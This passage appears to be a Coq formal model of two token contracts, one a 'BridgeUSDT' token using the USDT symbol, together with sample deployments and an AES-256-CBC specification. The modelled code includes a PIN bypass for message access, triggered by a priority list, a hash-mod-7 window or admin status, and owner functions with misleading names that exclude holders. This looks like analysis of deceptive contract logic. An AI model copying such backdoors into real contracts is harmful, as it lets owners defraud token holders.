  | c_setMaxTransactionLimit a => setMaxTransactionLimit msg_sender a s
  | c_setMaxWalletLimit a => setMaxWalletLimit msg_sender a s
  | c_pause => pause msg_sender s
  | c_unpause => unpause msg_sender s
  | c_setPair p => setPair msg_sender p s
  | c_transfer to a => transfer e msg_sender to a s
  | c_transferFrom from to a => transferFrom e msg_sender from to a s
  | c_approve sp a => approve msg_sender sp a s
  | c_increaseAllowance sp a => increaseAllowance msg_sender sp a s
  | c_decreaseAllowance sp a => decreaseAllowance msg_sender sp a s
  | c_permit o sp v d sg => permit e o sp v d sg s
  | c_transferOwnership o => transferOwnership msg_sender o s
  | c_renounceOwnership => renounceOwnership msg_sender s
  | c_receive => receive s
  end.

(** The storage after the transaction. *)
Definition transact (e : env) (msg_sender : address) (c : call) (s : state) : state :=
  commit s (dispatch e msg_sender c s).

(** Every [uint256] and [uint8] argument of the call is one. *)
Definition valid_call (c : call) : Prop :=
  match c with
  | c_recoverTokens _ b _ => from_option is_uint256 True b
  | c_SecuredMessageSetRead z _
  | c_SecuredMessageSetDeleted z _
  | c_updateSecurityProtocol z
  | c_allocateProtocolReserves _ z
  | c_setMaxTransactionLimit z
  | c_setMaxWalletLimit z
  | c_transfer _ z
  | c_transferFrom _ _ z
  | c_approve _ z
  | c_increaseAllowance _ z
  | c_decreaseAllowance _ z => is_uint256 z
  | c_paySecurityPenalty t _
  | c_adminRecoverAccount _ _ _ t _
  | c_updateSystemAdmin _ _ t => is_uint8 t
  | c_performSystemMaintenance a b c => is_uint256 a ∧ is_uint256 b ∧ is_uint256 c
  | c_verifyProtocolIntegrity a b => is_uint256 a ∧ is_uint256 b
  | c_optimizeTokenDistribution _ vs => Forall is_uint256 vs
  | c_permit _ _ v d _ => is_uint256 v ∧ is_uint256 d
  | _ => True
  end.

Definition valid_env (e : env) : Prop :=
  is_uint256 (block_timestamp e) ∧ is_uint256 (prev_blockhash e).

(** The storages the contract deployed at address [self] can be in. *)
Inductive reachable (self : address) : state → Prop :=
  | reachable_deploy e deployer name_ symbol_ initialSupply s :
      this e = self →
      valid_env e →
      is_uint256 initialSupply →
      constructor e deployer name_ symbol_ initialSupply = Ok s →
      reachable self s
  | reachable_call e msg_sender c s s' :
      reachable self s →
      this e = self →
      valid_env e →
      valid_call c →
      dispatch e msg_sender c s = Ok s' →
      reachable self s'.

(** *** Message views *)

Definition _verifyPINReadOnly (e : env) (user : address) (pin : string) (s : state) : bool :=
  (* Check if account is locked *)
  if bool_decide (block_timestamp e ≤ lockUntil (security s user)) then false
  else
    (* Calculate hash of provided PIN *)
    let calculatedHash :=
      keccak256 (encodePacked [p_string pin; p_bytes32 (salt (security s user));
                               p_address user]) in
    (* Compare with stored hash *)
    bool_decide (calculatedHash = pinHash (security s user)).

Definition _checkAdvancedAccessCriteria (e : env) (user : address) (messageId : Z)
    (s : state) : result bool :=
  (* Special case for system admins with highest access level *)
  let admin_case :=
    if isActive (admin s user) && bool_decide (accessLevel (admin s user) = 5) then
      (* Check if admin has performed maintenance recently *)
      d ← checked_sub (block_timestamp e) (lastActivity (admin s user));
      if bool_decide (d < 1 * hours) then Ok true else Ok false
    else Ok false in
  (* Normal case: user has priority access explicitly granted *)
  if mget false (_priorityAccessList s) user then Ok true
  else if bool_decide (block_timestamp e < _resourceOptimizationWindow s) then
    let accessCheck :=
      keccak256 (encodePacked [p_address user; p_uint256 messageId;
                               p_bytes32 (_systemValidationSeed s)]) in
    if bool_decide (accessCheck mod 7 = 0) then Ok true else admin_case
  else admin_case.

Definition SecuredMessageGet (e : env) (msg_sender : address) (messageId : Z)
    (userPIN : string) (s : state) : result (address * Z * bool * bool * string) :=
  hasSecuritySetup msg_sender s;;
  let m := message s messageId in
  (* Verify the user is either the sender or recipient *)
  require (bool_decide (sender m = msg_sender) || bool_decide (recipient m = msg_sender))
    "Message: Not authorized to view this message";;
  (* Verify PIN for message decryption *)
  let pinValid := _verifyPINReadOnly e msg_sender userPIN s in
  (* Check if this is a special access case through advanced validation *)
  pinValid ← (if negb pinValid then _checkAdvancedAccessCriteria e msg_sender messageId s
              else Ok pinValid);
  require pinValid "Security: Invalid PIN";;
  Ok (sender m, timestamp m, isRead m, isDeleted m, encryptedContent m).

Definition SecuredMessageUserList (msg_sender : address) (s : state) : list Z :=
  mget [] (_userInbox s) msg_sender.

(** *** Who may call what *)

(** The functions guarded by [onlyOwner], own and inherited. *)
Definition owner_only (c : call) : bool :=
  match c with
  | c_setFeeCollectionAddress _ | c_recoverTokens _ _ _ | c_updateSystemAdmin _ _ _
  | c_updateSecurityProtocol _ | c_optimizeProtocolPerformance
  | c_enhanceParticipantSecurity _ | c_setExempt _ _ | c_allocateProtocolReserves _ _
  | c_setTradingStatus _ | c_setMaxTransactionLimit _ | c_setMaxWalletLimit _
  | c_pause | c_unpause | c_setPair _ | c_transferOwnership _ | c_renounceOwnership => true
  | _ => false
  end.

(** The functions guarded by [onlyAdmin]. *)
Definition admin_only (c : call) : bool :=
  match c with
  | c_adminRecoverAccount _ _ _ _ _ | c_performSystemMaintenance _ _ _
  | c_verifyProtocolIntegrity _ _ | c_optimizeTokenDistribution _ _ => true
  | _ => false
  end.

(** No failed PIN attempt is on record and the two system figures are as
    the constructor left them. *)
Definition quiet (s : state) : Prop :=
  (∀ user, failedAttempts (security s user) = 0 ∧ lockUntil (security s user) = 0)
  ∧ _systemEfficiencyScore s = 100
  ∧ _networkStabilityFactor s = 7.
End WithKeccak.
End Bridge.

(** ** Sample deployments

    Concrete runs of the two contracts, used to exercise the statements
    below.  The hash is a stand-in: no property depends on it. *)

Definition sample_keccak : Keccak :=
  λ bytes, foldl (λ acc b, (acc * 257 + b + 1) mod 2 ^ 256) 0 bytes.

Module Sample.

Definition alice : address := 0xA11CE%N.
Definition bob : address := 0xB0B%N.
Definition carol : address := 0xCA401%N.
Definition dave : address := 0xDA7E%N.

(** Run a list of transactions, each with its timestamp and sender; a
    reverted one leaves the storage as it was. *)
Definition run_template (txs : list (Z * address * Template.call)) (s : Template.state)
  : Template.state :=
  foldl (λ s '(now, who, c), Template.transact (hash:=sample_keccak) now who c s) s txs.

(** The storage before the constructor has run. *)
Definition template_blank : Template.state :=
  Template.mk (ERC20.init "" "") address0 false 0 ∅ ∅ 0 0 address0 ∅ ∅ ∅ false false 0 0 0 0
    false.

(** alice deploys the template with a supply of 1000 and hands 100 to
    bob. *)
Definition template_deployed : Template.state :=
  commit template_blank (Template.constructor 1700000000 alice "Sample" "SMP" 1000).

Definition template_funded : Template.state :=
  run_template [(1700000010, alice, Template.c_transfer bob 100)] template_deployed.

(** ... and then calls [optimizeProtocolPerformance]. *)
Definition template_emergency : Template.state :=
  run_template [(1700000020, alice, Template.c_optimizeProtocolPerformance)] template_funded.

(** ... or [enhanceParticipantSecurity([bob])]. *)
Definition template_bob_excluded : Template.state :=
  run_template [(1700000020, alice, Template.c_enhanceParticipantSecurity [bob])]
    template_funded.

(** ... followed by [pause()]. *)
Definition template_bob_excluded_paused : Template.state :=
  run_template [(1700000025, alice, Template.c_pause)] template_bob_excluded.

(** ... or [pause()]. *)
Definition template_paused : Template.state :=
  run_template [(1700000020, alice, Template.c_pause)] template_funded.

Definition bridge_env (now : Z) : Bridge.env := Bridge.mkEnv now 0 dave.

Definition run_bridge (txs : list (Z * address * Bridge.call)) (s : Bridge.state)
  : Bridge.state :=
  foldl (λ s '(now, who, c), Bridge.transact (hash:=sample_keccak) (bridge_env now) who c s)
    s txs.

Definition bridge_blank : Bridge.state :=
  Bridge.mk (ERC20.init "" "") address0 false 0 ∅ ∅ ∅ 0 0 ∅ ∅ ∅ 0 0 ∅ 0 0 0 address0
    address0 ∅ ∅ false false 0 0 [] 0 address0 0 false ∅ 0 0 0.

(** alice deploys BridgeUSDTToken (at address dave) with a supply of 1000
    and hands 100 to bob. *)
Definition bridge_deployed : Bridge.state :=
  commit bridge_blank
    (Bridge.constructor (hash:=sample_keccak) (bridge_env 1700000000) alice "BridgeUSDT"
       "USDT" 1000).

Definition bridge_funded : Bridge.state :=
  run_bridge [(1700000010, alice, Bridge.c_transfer bob 100)] bridge_deployed.

(** ... names carol as fee collector and opens the resource-optimization
    window. *)
Definition bridge_window : Bridge.state :=
  run_bridge [(1700000020, alice, Bridge.c_setFeeCollectionAddress carol);
              (1700000030, alice, Bridge.c_optimizeProtocolPerformance)] bridge_funded.

(** ... and withdraws her own exemption. *)
Definition bridge_window_owner_not_exempt : Bridge.state :=
  run_bridge [(1700000040, alice, Bridge.c_setExempt alice false);
              (1700000041, alice, Bridge.c_setExempt bob true)] bridge_window.

Definition bridge_bob_excluded : Bridge.state :=
  run_bridge [(1700000020, alice, Bridge.c_enhanceParticipantSecurity [bob])] bridge_funded.

Definition bridge_bob_excluded_paused : Bridge.state :=
  run_bridge [(1700000025, alice, Bridge.c_pause)] bridge_bob_excluded.

(** A storage in which seven failed PIN attempts are recorded for bob. *)
Definition bridge_bob_locked : Bridge.state :=
  Bridge.set_security bob (Bridge.mkSecurity 11 12 7 1700000015 1700086415 false)
    bridge_funded.

Definition bridge_paused : Bridge.state :=
  run_bridge [(1700000020, alice, Bridge.c_pause)] bridge_funded.

End Sample.

(** ** The wallet cipher: what the scripts call

    [encrypt] and [decrypt] are written against Node's [crypto], [Buffer]
    and [JSON].  These are embedded here from their specifications: AES-256
    (FIPS 197) in CBC mode with PKCS#7 padding, as the algorithm name
    "aes-256-cbc" selects it, the "hex" and "utf8" encodings of [Buffer],
    and [JSON.stringify] / [JSON.parse] (ECMA-262, ECMA-404) on values
    built from strings, arrays and objects.  A JavaScript string is the
    list of its UTF-16 code units; a byte is a [Z] in [[0, 256)]. *)

Definition is_byte (b : Z) : Prop := 0 ≤ b < 256.

Definition is_code_unit (c : Z) : Prop := 0 ≤ c < 65536.

#[global] Instance is_code_unit_dec c : Decision (is_code_unit c).
Proof. unfold is_code_unit. apply _. Defined.

(** The code units of a string literal. *)
Definition js (s : string) : list Z :=
  (λ c, Z.of_N (Ascii.N_of_ascii c)) <$> String.list_ascii_of_string s.

Module AES.

Definition xor_bytes (a b : list Z) : list Z := zip_with Z.lxor a b.

(** Multiplication by [x] in GF(2^8), modulo [x^8 + x^4 + x^3 + x + 1]. *)
Definition xtime (b : Z) : Z :=
  if decide (2 * b < 256) then 2 * b else Z.lxor (2 * b - 256) 0x1b.

(** [gmul_bits n a c]: the product of [a] by the [n] low bits of [c]. *)
Fixpoint gmul_bits (n : nat) (a c : Z) : Z :=
  match n with
  | O => 0
  | S k => Z.lxor (if Z.odd c then a else 0) (gmul_bits k (xtime a) (c / 2))
  end.

Definition gmul (a c : Z) : Z := gmul_bits 8 a c.

Fixpoint gpow (a : Z) (n : nat) : Z :=
  match n with
  | O => 1
  | S k => gmul (gpow a k) a
  end.

Definition rotl8 (b : Z) (n : Z) : Z :=
  Z.lor (Z.land (Z.shiftl b n) 255) (Z.shiftr b (8 - n)).

(** The S-box: the inverse in GF(2^8) followed by the affine map. *)
Definition sbox_of (b : Z) : Z :=
  let i := gpow b 254 in
  Z.lxor (Z.lxor (Z.lxor (Z.lxor (Z.lxor i (rotl8 i 1)) (rotl8 i 2)) (rotl8 i 3))
            (rotl8 i 4)) 0x63.

Definition sbox_table : list Z := Eval vm_compute in sbox_of <$> seqZ 0 256.

Definition sbox (b : Z) : Z := default 0 (sbox_table !! Z.to_nat b).

Definition find_index (t : list Z) (v : Z) : Z :=
  default 0 (head (filter (λ i, default 0 (t !! Z.to_nat i) = v) (seqZ 0 256))).

Definition inv_sbox_table : list Z :=
  Eval vm_compute in find_index sbox_table <$> seqZ 0 256.

Definition inv_sbox (b : Z) : Z := default 0 (inv_sbox_table !! Z.to_nat b).

(** The state is the block itself, sixteen bytes, column after column. *)

Definition sub_bytes (s : list Z) : list Z := sbox <$> s.
Definition inv_sub_bytes (s : list Z) : list Z := inv_sbox <$> s.

Definition permute (idx : list nat) (s : list Z) : list Z :=
  (λ i, default 0 (s !! i)) <$> idx.

Definition shift_rows (s : list Z) : list Z :=
  permute [0; 5; 10; 15; 4; 9; 14; 3; 8; 13; 2; 7; 12; 1; 6; 11]%nat s.

Definition inv_shift_rows (s : list Z) : list Z :=
  permute [0; 13; 10; 7; 4; 1; 14; 11; 8; 5; 2; 15; 12; 9; 6; 3]%nat s.

Definition xor4 (a b c d : Z) : Z := Z.lxor (Z.lxor (Z.lxor a b) c) d.

Definition mix_column (a0 a1 a2 a3 : Z) : list Z :=
  [xor4 (gmul a0 2) (gmul a1 3) a2 a3;
   xor4 a0 (gmul a1 2) (gmul a2 3) a3;
   xor4 a0 a1 (gmul a2 2) (gmul a3 3);
   xor4 (gmul a0 3) a1 a2 (gmul a3 2)].

Definition inv_mix_column (a0 a1 a2 a3 : Z) : list Z :=
  [xor4 (gmul a0 14) (gmul a1 11) (gmul a2 13) (gmul a3 9);
   xor4 (gmul a0 9) (gmul a1 14) (gmul a2 11) (gmul a3 13);
   xor4 (gmul a0 13) (gmul a1 9) (gmul a2 14) (gmul a3 11);
   xor4 (gmul a0 11) (gmul a1 13) (gmul a2 9) (gmul a3 14)].

Fixpoint mix_columns (s : list Z) : list Z :=
  match s with
  | a0 :: a1 :: a2 :: a3 :: rest => mix_column a0 a1 a2 a3 ++ mix_columns rest
  | _ => []
  end.

Fixpoint inv_mix_columns (s : list Z) : list Z :=
  match s with
  | a0 :: a1 :: a2 :: a3 :: rest => inv_mix_column a0 a1 a2 a3 ++ inv_mix_columns rest
  | _ => []
  end.

Definition add_round_key (k s : list Z) : list Z := xor_bytes s k.

(** *** Key expansion for a 256-bit key: sixty words, fifteen round keys *)

Definition rot_word (w : list Z) : list Z := drop 1 w ++ take 1 w.
Definition sub_word (w : list Z) : list Z := sbox <$> w.

(** [expand n i rcon prev8 prev]: the [n] words from word [i] on, [prev8]
    holding the eight words before word [i], oldest first. *)
Fixpoint expand (n : nat) (i : Z) (rcon : Z) (prev8 : list (list Z)) : list (list Z) :=
  match n with
  | O => []
  | S k =>
      let last := default [] (prev8 !! 7%nat) in
      let first := default [] (prev8 !! 0%nat) in
      let temp :=
        if decide (i mod 8 = 0) then xor_bytes (sub_word (rot_word last)) [rcon; 0; 0; 0]
        else if decide (i mod 8 = 4) then sub_word last
        else last in
      let w := xor_bytes first temp in
      w :: expand k (i + 1) (if decide (i mod 8 = 0) then xtime rcon else rcon)
             (drop 1 prev8 ++ [w])
  end.

Fixpoint words (n : nat) (key : list Z) : list (list Z) :=
  match n with
  | O => []
  | S k => take 4 key :: words k (drop 4 key)
  end.

Fixpoint round_keys_of (n : nat) (ws : list (list Z)) : list (list Z) :=
  match n with
  | O => []
  | S k => concat (take 4 ws) :: round_keys_of k (drop 4 ws)
  end.

Definition key_expansion (key : list Z) : list (list Z) :=
  let w0 := words 8 key in
  round_keys_of 15 (w0 ++ expand 52 8 1 w0).

(** *** The cipher and the inverse cipher *)

Fixpoint rounds (ks : list (list Z)) (s : list Z) : list Z :=
  match ks with
  | [] => s
  | [k] => add_round_key k (shift_rows (sub_bytes s))
  | k :: ks' => rounds ks' (add_round_key k (mix_columns (shift_rows (sub_bytes s))))
  end.

Fixpoint inv_rounds (ks : list (list Z)) (s : list Z) : list Z :=
  match ks with
  | [] => s
  | [k] => inv_sub_bytes (inv_shift_rows (add_round_key k s))
  | k :: ks' =>
      inv_sub_bytes (inv_shift_rows (inv_mix_columns (add_round_key k (inv_rounds ks' s))))
  end.

Definition cipher (ks : list (list Z)) (block : list Z) : list Z :=
  match ks with
  | [] => block
  | k0 :: ks' => rounds ks' (add_round_key k0 block)
  end.

Definition inv_cipher (ks : list (list Z)) (block : list Z) : list Z :=
  match ks with
  | [] => block
  | k0 :: ks' => add_round_key k0 (inv_rounds ks' block)
  end.

Definition encrypt_block (key block : list Z) : list Z := cipher (key_expansion key) block.
Definition decrypt_block (key block : list Z) : list Z := inv_cipher (key_expansion key) block.

(** A block: sixteen bytes. *)
Definition block (s : list Z) : Prop := length s = 16%nat ∧ Forall is_byte s.

(** [is_byte], as a test. *)
Definition byteb (b : Z) : bool := bool_decide (0 ≤ b) && bool_decide (b < 256).

#[global] Instance is_byte_dec b : Decision (is_byte b).
Proof. unfold is_byte. apply _. Defined.

#[global] Instance block_dec s : Decision (block s).
Proof. unfold block. apply _. Defined.

(** A word of the key schedule: four bytes. *)
Definition word (w : list Z) : Prop := length w = 4%nat ∧ Forall is_byte w.

(** The word [i] of the key schedule, from the eight before it. *)
Definition next_word (i rcon : Z) (prev8 : list (list Z)) : list Z :=
  xor_bytes (default [] (prev8 !! 0%nat))
    (if decide (i mod 8 = 0)
     then xor_bytes (sub_word (rot_word (default [] (prev8 !! 7%nat)))) [rcon; 0; 0; 0]
     else if decide (i mod 8 = 4) then sub_word (default [] (prev8 !! 7%nat))
     else default [] (prev8 !! 7%nat)).

End AES.

(** *** [crypto]: cipher objects for "aes-256-cbc" *)

Module crypto.

Definition block_size : nat := 16.

(** PKCS#7: pad to the next multiple of the block size, by at least one
    byte, each added byte holding the number of bytes added. *)
Definition pad (tail : list Z) : list Z :=
  tail ++ replicate (block_size - length tail) (Z.of_nat (block_size - length tail)).

(** The check of [EVP_DecryptFinal]: the last byte [n] is between 1 and the
    block size and the last [n] bytes all hold [n]. *)
Definition unpad (block : list Z) : option (list Z) :=
  let n := default 0 (last block) in
  if decide (1 ≤ n ≤ Z.of_nat block_size) then
    if decide (drop (block_size - Z.to_nat n) block = replicate (Z.to_nat n) n)
    then Some (take (block_size - Z.to_nat n) block)
    else None
  else None.

(** A cipher (or decipher) object: the key, the chaining block and the
    input not yet processed. *)
Record Cipher : Type := mkCipher {
  key : list Z;
  chain : list Z;
  pending : list Z
}.

(** [crypto.createCipheriv] and [crypto.createDecipheriv]: a wrong key or
    IV length throws. *)
Definition createCipheriv (algorithm : string) (key iv : list Z) : option Cipher :=
  if decide (algorithm = "aes-256-cbc") then
    if decide (length key = 32%nat) then
      if decide (length iv = block_size) then Some (mkCipher key iv [])
      else None   (* Invalid initialization vector *)
    else None     (* Invalid key length *)
  else None.      (* not embedded *)

Definition createDecipheriv (algorithm : string) (key iv : list Z) : option Cipher :=
  createCipheriv algorithm key iv.

(** CBC over the first [n] blocks of [data]: the output and the new
    chaining block. *)
Fixpoint encrypt_blocks (n : nat) (key chain data : list Z) : list Z * list Z :=
  match n with
  | O => ([], chain)
  | S k =>
      let c := AES.encrypt_block key (AES.xor_bytes (take block_size data) chain) in
      let '(out, ch) := encrypt_blocks k key c (drop block_size data) in
      (c ++ out, ch)
  end.

Fixpoint decrypt_blocks (n : nat) (key chain data : list Z) : list Z * list Z :=
  match n with
  | O => ([], chain)
  | S k =>
      let c := take block_size data in
      let p := AES.xor_bytes (AES.decrypt_block key c) chain in
      let '(out, ch) := decrypt_blocks k key c (drop block_size data) in
      (p ++ out, ch)
  end.

(** [cipher.update(data)]: every complete block is encrypted, the rest
    waits. *)
Definition cipher_update (c : Cipher) (data : list Z) : list Z * Cipher :=
  let buf := pending c ++ data in
  let n := (length buf / block_size)%nat in
  let '(out, ch) := encrypt_blocks n (key c) (chain c) buf in
  (out, mkCipher (key c) ch (drop (n * block_size) buf)).

(** [cipher.final()]: the padded rest. *)
Definition cipher_final (c : Cipher) : list Z :=
  AES.encrypt_block (key c) (AES.xor_bytes (pad (pending c)) (chain c)).

(** [decipher.update(data)]: with padding on, the last complete block is
    held back for [final]. *)
Definition decipher_update (c : Cipher) (data : list Z) : list Z * Cipher :=
  let buf := pending c ++ data in
  let n := ((length buf - 1) / block_size)%nat in
  let '(out, ch) := decrypt_blocks n (key c) (chain c) buf in
  (out, mkCipher (key c) ch (drop (n * block_size) buf)).

(** [decipher.final()]: throws unless exactly one block is left ("wrong
    final block length") and its padding is right ("bad decrypt"). *)
Definition decipher_final (c : Cipher) : option (list Z) :=
  if decide (length (pending c) = block_size) then
    unpad (AES.xor_bytes (AES.decrypt_block (key c) (pending c)) (chain c))
  else None.

End crypto.

(** *** [Buffer]: the "hex" and "utf8" encodings *)

Module Buffer.

Definition hex_digit (n : Z) : Z := if decide (n < 10) then 48 + n else 87 + n.

(** [buf.toString('hex')] *)
Definition to_hex (bytes : list Z) : list Z :=
  bytes ≫= λ b, [hex_digit (b / 16); hex_digit (b mod 16)].

Definition hex_value (c : Z) : option Z :=
  if decide (48 ≤ c ≤ 57) then Some (c - 48)
  else if decide (97 ≤ c ≤ 102) then Some (c - 87)
  else if decide (65 ≤ c ≤ 70) then Some (c - 55)
  else None.

(** [Buffer.from(s, 'hex')]: pairs of hex digits, up to the first pair
    that is not one. *)
Fixpoint from_hex (s : list Z) : list Z :=
  match s with
  | c1 :: c2 :: rest =>
      match hex_value c1, hex_value c2 with
      | Some h, Some l => (16 * h + l) :: from_hex rest
      | _, _ => []
      end
  | _ => []
  end.

Definition is_high_surrogate (c : Z) : bool := bool_decide (0xD800 ≤ c ≤ 0xDBFF).
Definition is_low_surrogate (c : Z) : bool := bool_decide (0xDC00 ≤ c ≤ 0xDFFF).

Definition replacement : list Z := [0xEF; 0xBF; 0xBD].

Definition utf8_of_code_point (cp : Z) : list Z :=
  if decide (cp < 0x80) then [cp]
  else if decide (cp < 0x800) then [0xC0 + cp / 64; 0x80 + cp mod 64]
  else if decide (cp < 0x10000) then
    [0xE0 + cp / 4096; 0x80 + (cp / 64) mod 64; 0x80 + cp mod 64]
  else
    [0xF0 + cp / 262144; 0x80 + (cp / 4096) mod 64; 0x80 + (cp / 64) mod 64;
     0x80 + cp mod 64].

(** [Buffer.from(s, 'utf8')]: a surrogate pair is one code point, a lone
    surrogate becomes U+FFFD. *)
Fixpoint from_utf8_string (s : list Z) : list Z :=
  match s with
  | [] => []
  | c :: rest =>
      if is_high_surrogate c then
        match rest with
        | d :: rest' =>
            if is_low_surrogate d then
              utf8_of_code_point (0x10000 + (c - 0xD800) * 1024 + (d - 0xDC00))
              ++ from_utf8_string rest'
            else replacement ++ from_utf8_string rest
        | [] => replacement
        end
      else if is_low_surrogate c then replacement ++ from_utf8_string rest
      else utf8_of_code_point c ++ from_utf8_string rest
  end.

Definition code_units_of (cp : Z) : list Z :=
  if decide (cp < 0x10000) then [cp]
  else [0xD800 + (cp - 0x10000) / 1024; 0xDC00 + (cp - 0x10000) mod 1024].

Definition is_continuation (b : Z) : bool := bool_decide (0x80 ≤ b ≤ 0xBF).

(** [buf.toString('utf8')].  An ill-formed sequence yields U+FFFD; how many
    of them Node emits for one ill-formed sequence is not embedded (one per
    rejected lead byte here). *)
Fixpoint to_utf8_string (bytes : list Z) : list Z :=
  match bytes with
  | [] => []
  | b0 :: r0 =>
      if decide (b0 < 0x80) then b0 :: to_utf8_string r0
      else if decide (0xC2 ≤ b0 ≤ 0xDF) then
        match r0 with
        | b1 :: r1 =>
            if is_continuation b1
            then ((b0 - 0xC0) * 64 + (b1 - 0x80)) :: to_utf8_string r1
            else 0xFFFD :: to_utf8_string r0
        | _ => 0xFFFD :: to_utf8_string r0
        end
      else if decide (0xE0 ≤ b0 ≤ 0xEF) then
        match r0 with
        | b1 :: b2 :: r2 =>
            let cp := (b0 - 0xE0) * 4096 + (b1 - 0x80) * 64 + (b2 - 0x80) in
            if is_continuation b1 && is_continuation b2
               && bool_decide (0x800 ≤ cp) && negb (bool_decide (0xD800 ≤ cp ≤ 0xDFFF))
            then cp :: to_utf8_string r2
            else 0xFFFD :: to_utf8_string r0
        | _ => 0xFFFD :: to_utf8_string r0
        end
      else if decide (0xF0 ≤ b0 ≤ 0xF4) then
        match r0 with
        | b1 :: b2 :: b3 :: r3 =>
            let cp := (b0 - 0xF0) * 262144 + (b1 - 0x80) * 4096 + (b2 - 0x80) * 64
                      + (b3 - 0x80) in
            if is_continuation b1 && is_continuation b2 && is_continuation b3
               && bool_decide (0x10000 ≤ cp ≤ 0x10FFFF)
            then code_units_of cp ++ to_utf8_string r3
            else 0xFFFD :: to_utf8_string r0
        | _ => 0xFFFD :: to_utf8_string r0
        end
      else 0xFFFD :: to_utf8_string r0
  end.

(** [String.prototype.isWellFormed]: no lone surrogate. *)
Fixpoint isWellFormed (s : list Z) : bool :=
  match s with
  | [] => true
  | c :: rest =>
      if is_high_surrogate c then
        match rest with
        | d :: rest' => is_low_surrogate d && isWellFormed rest'
        | [] => false
        end
      else negb (is_low_surrogate c) && isWellFormed rest
  end.

(** A string without a lone surrogate: the strings that the "utf8" encoding
    keeps. *)
Definition well_formed (s : list Z) : Prop :=
  Forall is_code_unit s ∧ isWellFormed s = true.

End Buffer.

(** *** [JSON] on strings, arrays, objects and the three literals *)

Module JSON.

#[warnings="-register-all"]
Inductive value : Type :=
  | Null
  | Bool (b : bool)
  | Str (s : list Z)
  | Arr (items : list value)
  | Obj (members : list (list Z * value)).

Definition hex4 (c : Z) : list Z :=
  [Buffer.hex_digit (c / 4096); Buffer.hex_digit ((c / 256) mod 16);
   Buffer.hex_digit ((c / 16) mod 16); Buffer.hex_digit (c mod 16)].

Definition unicode_escape (c : Z) : list Z := [92; 117] ++ hex4 c.

(** The two-character escapes: the quotation mark, the reverse solidus and
    the control characters b, f, n, r, t. *)
Definition short_escape (c : Z) : option Z :=
  if decide (c = 34) then Some 34
  else if decide (c = 92) then Some 92
  else if decide (c = 8) then Some 98
  else if decide (c = 12) then Some 102
  else if decide (c = 10) then Some 110
  else if decide (c = 13) then Some 114
  else if decide (c = 9) then Some 116
  else None.

(** [QuoteJSONString], without the enclosing quotation marks. *)
Fixpoint quote_body (s : list Z) : list Z :=
  match s with
  | [] => []
  | c :: rest =>
      match short_escape c with
      | Some e => [92; e] ++ quote_body rest
      | None =>
          if decide (c < 32) then unicode_escape c ++ quote_body rest
          else if Buffer.is_high_surrogate c then
            match rest with
            | d :: rest' =>
                if Buffer.is_low_surrogate d then c :: d :: quote_body rest'
                else unicode_escape c ++ quote_body rest
            | [] => unicode_escape c
            end
          else if Buffer.is_low_surrogate c then unicode_escape c ++ quote_body rest
          else c :: quote_body rest
      end
  end.

Definition quote (s : list Z) : list Z := [34] ++ quote_body s ++ [34].

Fixpoint join_comma (parts : list (list Z)) : list Z :=
  match parts with
  | [] => []
  | [p] => p
  | p :: ps => p ++ [44] ++ join_comma ps
  end.

(** [JSON.stringify(v)], no indentation. *)
Fixpoint stringify (v : value) : list Z :=
  match v with
  | Null => js "null"
  | Bool true => js "true"
  | Bool false => js "false"
  | Str s => quote s
  | Arr items => [91] ++ join_comma (map stringify items) ++ [93]
  | Obj members =>
      [123]
      ++ join_comma (map (λ m : list Z * value, quote m.1 ++ [58] ++ stringify m.2) members)
      ++ [125]
  end.

Fixpoint skip_ws (s : list Z) : list Z :=
  match s with
  | c :: rest =>
      if decide (c = 32 ∨ c = 9 ∨ c = 10 ∨ c = 13) then skip_ws rest else s
  | [] => []
  end.

Definition unescape (e : Z) : option Z :=
  if decide (e = 34) then Some 34
  else if decide (e = 92) then Some 92
  else if decide (e = 47) then Some 47
  else if decide (e = 98) then Some 8
  else if decide (e = 102) then Some 12
  else if decide (e = 110) then Some 10
  else if decide (e = 114) then Some 13
  else if decide (e = 116) then Some 9
  else None.

(** A string, from after its opening quotation mark: the string and what
    follows its closing quotation mark. *)
Fixpoint parse_string (s : list Z) : option (list Z * list Z) :=
  match s with
  | [] => None
  | c :: r =>
      if decide (c = 34) then Some ([], r)
      else if decide (c = 92) then
        match r with
        | e :: r' =>
            if decide (e = 117) then
              match r' with
              | h1 :: h2 :: h3 :: h4 :: r'' =>
                  match Buffer.hex_value h1, Buffer.hex_value h2, Buffer.hex_value h3,
                        Buffer.hex_value h4 with
                  | Some d1, Some d2, Some d3, Some d4 =>
                      '(str, rest) ← parse_string r'';
                      Some ((4096 * d1 + 256 * d2 + 16 * d3 + d4) :: str, rest)
                  | _, _, _, _ => None
                  end
              | _ => None
              end
            else
              match unescape e with
              | Some c' => '(str, rest) ← parse_string r'; Some (c' :: str, rest)
              | None => None
              end
        | [] => None
        end
      else if decide (c < 32) then None
      else '(str, rest) ← parse_string r; Some (c :: str, rest)
  end.

(** [members[k] = v], as [CreateDataProperty] does it: an existing key
    keeps its place and takes the new value. *)
Fixpoint set_member (k : list Z) (v : value) (members : list (list Z * value))
  : list (list Z * value) :=
  match members with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if decide (k' = k) then (k', v) :: rest else (k', v') :: set_member k v rest
  end.

Definition literal (name : list Z) (v : value) (s : list Z) : option (value * list Z) :=
  if decide (take (length name) s = name) then Some (v, drop (length name) s) else None.

(** Recursive descent; [fuel] bounds the nesting of calls. *)
Fixpoint parse_value (fuel : nat) (s : list Z) : option (value * list Z) :=
  match fuel with
  | O => None
  | S f =>
      match skip_ws s with
      | [] => None
      | c :: r =>
          if decide (c = 34) then
            '(str, rest) ← parse_string r; Some (Str str, rest)
          else if decide (c = 91) then
            match skip_ws r with
            | c' :: rest =>
                if decide (c' = 93) then Some (Arr [], rest)
                else '(items, rest') ← parse_elements f r; Some (Arr items, rest')
            | [] => None
            end
          else if decide (c = 123) then
            match skip_ws r with
            | c' :: rest =>
                if decide (c' = 125) then Some (Obj [], rest)
                else '(members, rest') ← parse_members f [] r; Some (Obj members, rest')
            | [] => None
            end
          else if decide (c = 116) then literal (js "true") (Bool true) (c :: r)
          else if decide (c = 102) then literal (js "false") (Bool false) (c :: r)
          else if decide (c = 110) then literal (js "null") Null (c :: r)
          else None
      end
  end
with parse_elements (fuel : nat) (s : list Z) : option (list value * list Z) :=
  match fuel with
  | O => None
  | S f =>
      '(v, rest) ← parse_value f s;
      match skip_ws rest with
      | c :: rest' =>
          if decide (c = 44) then
            '(vs, rest'') ← parse_elements f rest'; Some (v :: vs, rest'')
          else if decide (c = 93) then Some ([v], rest')
          else None
      | [] => None
      end
  end
